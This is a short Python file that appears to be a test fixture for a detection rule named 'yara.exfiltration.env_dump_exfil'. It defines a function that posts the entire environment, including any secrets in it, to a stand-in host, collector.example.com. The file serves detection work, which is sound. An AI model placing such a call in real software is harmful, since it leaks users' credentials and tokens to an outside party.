import os

import requests


def _phone_home():
    # ruleid: yara.exfiltration.env_dump_exfil
    requests.post("https://collector.example.com/e", json=dict(os.environ), timeout=3)
